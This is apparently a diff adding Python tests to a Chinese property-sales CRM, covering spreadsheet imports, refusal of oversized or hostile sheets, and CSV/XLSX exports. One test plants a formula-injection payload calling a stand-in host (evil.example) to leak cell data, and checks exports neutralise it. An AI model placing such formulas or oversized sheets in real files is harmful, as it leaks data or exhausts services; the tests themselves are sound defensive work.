@@ -13,7 +13,9 @@ from typing import Any
 import openpyxl
 import pytest
 
-from tests.http.conftest import Api, make_api
+from tests.http.conftest import ADMIN_KEY, Api, make_api
+from yingke.cli import main
+from yingke.sheets.commands import VIEW_NAMES
 from yingke.sheets.reading import XLSX
 
 HEADERS = ["姓名", "联系电话", "来源", "渠道公司", "经纪人", "置业顾问", "意向等级", "到访日期"]
@@ -277,3 +279,174 @@ def test_every_list_downloads_as_csv_and_xlsx_scoped_like_its_json(api: Api) -> 
             assert response.headers["content-type"].startswith(accept), path
     tasks = api.client.get("/v1/tasks", params={**params, "format": "csv"}, headers=c1_keys)
     assert len(list(csv.DictReader(io.StringIO(tasks.content.decode("utf-8-sig"))))) == 2
+
+
+def test_a_register_with_merged_consultants_imports_each_buyer_to_the_merged_owner(
+    api: Api,
+) -> None:
+    manager, c1, _, c2, _ = setup_office(api)
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["XX项目客户台账"])
+    sheet.merge_cells("A1:D1")
+    sheet.append(["姓名", "手机", "置业顾问", "到访日期"])
+    sheet.append(["甲", "13600000001", c1, "2024/1/1"])
+    sheet.append(["乙", "13600000002", None, "2024/1/2"])
+    sheet.append(["丙", "13600000003", None, "2024/1/3"])
+    sheet.append(["丁", "13600000004", c2, "2024/1/4"])
+    sheet.merge_cells("C3:C5")  # the office groups buyers under their consultant
+    body = io.BytesIO()
+    book.save(body)
+    response = post(
+        api, f"/v1/projects/{api.project}/clients:import", manager, body.getvalue(), XLSX
+    )
+    assert response.status_code == 200, response.text
+    listed = api.client.get(
+        "/v1/clients", params={**after(response), "project_id": api.project}, headers=manager
+    ).json()["items"]
+    owners = {i["phone_masked"]: i["consultant_id"] for i in listed}
+    assert owners == {
+        "136****0001": c1,
+        "136****0002": c1,
+        "136****0003": c1,
+        "136****0004": c2,
+    }
+
+
+def test_a_hostile_sheet_is_refused_with_a_problem_and_the_service_keeps_serving(
+    api: Api,
+) -> None:
+    manager, c1, _, c2, _ = setup_office(api)
+    path = f"/v1/projects/{api.project}/clients:import"
+    stray = openpyxl.Workbook()
+    sheet = stray.active
+    assert sheet is not None
+    sheet.append(["姓名", "手机"])
+    sheet.append(["甲", "13600000001"])
+    sheet["XFD1048576"] = "x"  # a few KB that the reader would size at 512 GB
+    body = io.BytesIO()
+    stray.save(body)
+    refused = post(api, path, manager, body.getvalue(), XLSX)
+    assert refused.status_code == 422, refused.text
+    assert refused.headers["content-type"].startswith("application/problem+json")
+    assert "XFD1048576" in refused.json()["errors"][0]["message"]
+
+    long_cell = "姓名,手机\n甲,13600000001\n" + "x" * 200_000 + ",13600000002\n"
+    refused = post(api, path, manager, long_cell.encode(), "text/csv")
+    assert refused.status_code == 422, refused.text
+    assert "第3行" in refused.json()["errors"][0]["message"]
+
+    fine = post(api, path, manager, xlsx(register(c1, c2)), XLSX)
+    assert fine.status_code == 200, fine.text
+
+
+def test_exports_hand_excel_text_where_a_cell_looks_like_a_formula(api: Api) -> None:
+    manager, c1, _, c2, _ = setup_office(api)
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
+    renamed = api.client.patch(
+        f"/v1/principals/{c1}", json={"display_name": evil}, headers=api.admin
+    )
+    assert renamed.status_code == 200, renamed.text
+    imported = post(
+        api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(register(c1, c2)), XLSX
+    )
+    assert imported.status_code == 200, imported.text
+    params = {**after(imported), "project_id": api.project, "headers": "zh"}
+
+    as_csv = api.client.get("/v1/clients", params={**params, "format": "csv"}, headers=manager)
+    lines = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    names = {r["顾问姓名"] for r in lines}
+    assert f"'{evil}" in names and evil not in names
+
+    as_xlsx = api.client.get("/v1/clients", params={**params, "format": "xlsx"}, headers=manager)
+    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).worksheets[0]
+    column = [c.value for c in sheet[1]].index("顾问姓名")
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    assert any(c.value == evil for c in cells)
+    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
+
+
+def test_chinese_headers_name_every_column_of_the_lists(api: Api) -> None:
+    manager, c1, _, c2, _ = setup_office(api)
+    imported = post(
+        api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(register(c1, c2)), XLSX
+    )
+    assert imported.status_code == 200, imported.text
+    price_list = [["楼栋", "房号", "户型", "建筑面积", "楼层", "朝向", "总价"]]
+    price_list.append(["3栋", "1201", "三室", "89.5", "12", "南", "235万"])
+    units = post(api, f"/v1/projects/{api.project}/units:import", manager, xlsx(price_list), XLSX)
+    assert units.status_code == 200, units.text
+    params = {**after(units), "project_id": api.project, "format": "csv", "headers": "zh"}
+    for path in (
+        "/v1/clients",
+        "/v1/reports",
+        "/v1/tasks",
+        "/v1/rule-tasks",
+        "/v1/deals",
+        "/v1/views/consultants",
+        "/v1/views/commissions/entries",
+        f"/v1/projects/{api.project}/units",
+    ):
+        response = api.client.get(path, params=params, headers=manager)
+        assert response.status_code == 200, (path, response.text)
+        header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert header, path
+        english = [h for h in header if not any("\u4e00" <= ch <= "\u9fff" for ch in h)]
+        assert english == [], path
+
+
+def test_the_staff_directory_downloads_scoped_like_its_json(api: Api) -> None:
+    manager, c1, _, c2, _ = setup_office(api)
+    elsewhere = "c-elsewhere"
+    last = api.client.post(
+        "/v1/principals",
+        json={"id": elsewhere, "role": "consultant", "project_ids": ["another-project"]},
+        headers=api.admin,
+    )
+    assert last.status_code == 201, last.text
+    params = {**after(last), "format": "csv", "headers": "zh", "limit": 1}
+    response = api.client.get("/v1/principals", params=params, headers=manager)
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"].startswith("text/csv")
+    lines = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    ids = {line["员工ID"] for line in lines}
+    assert {c1, c2} <= ids and elsewhere not in ids  # every page, the manager's projects only
+    as_json = api.client.get(
+        "/v1/principals", params={**after(last), "limit": 500}, headers=manager
+    ).json()
+    assert ids == {item["id"] for item in as_json["items"]}
+    as_xlsx = api.client.get("/v1/principals", headers={**manager, "Accept": XLSX})
+    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content), read_only=True).worksheets[0]
+    assert len(list(sheet.iter_rows(values_only=True))) == len(ids) + 1
+
+
+def test_the_cli_exports_every_view_it_names(
+    api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    manager, c1, _, c2, _ = setup_office(api)
+    imported = post(
+        api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(register(c1, c2)), XLSX
+    )
+    assert imported.status_code == 200, imported.text
+    seen = api.client.get("/v1/clients", params=after(imported), headers=manager)
+    assert len(seen.json()["items"]) == 3  # the views hold the import
+    for name, value in {
+        "YINGKE_DATA_DIR": str(tmp_path),
+        "YINGKE_SECRET": "test-secret-0123456789abcdef",
+        "YINGKE_ADMIN_KEY": ADMIN_KEY,
+    }.items():
+        monkeypatch.setenv(name, value)
+    views = VIEW_NAMES.split(", ")
+    assert {"signing-forecast", "conversion", "staff"} <= set(views)
+    out = tmp_path / "out"
+    out.mkdir()
+    for view in views:
+        target = out / f"{view}.csv"
+        argv = ["export", view, "-f", "csv", "-o", str(target), "--project", api.project]
+        assert main([*argv, "--headers", "zh"]) == 0, view
+        assert target.read_bytes().startswith(b"\xef\xbb\xbf"), view
+    clients = list(csv.DictReader(io.StringIO((out / "clients.csv").read_text("utf-8-sig"))))
+    assert len(clients) == 3
+    staff = list(csv.DictReader(io.StringIO((out / "staff.csv").read_text("utf-8-sig"))))
+    assert {c1, c2} <= {row["员工ID"] for row in staff}
